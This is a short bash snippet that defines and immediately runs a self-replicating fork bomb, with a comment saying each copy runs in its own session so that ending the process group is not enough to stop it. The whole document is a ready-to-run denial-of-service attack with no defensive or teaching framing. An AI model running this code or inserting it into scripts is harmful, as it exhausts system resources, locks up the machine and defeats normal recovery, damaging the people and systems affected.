# Processes without end, each in a session of its own so that ending the group is not enough.
bomb() { while :; do setsid bash -c "$(declare -f bomb); bomb" & done; }
bomb
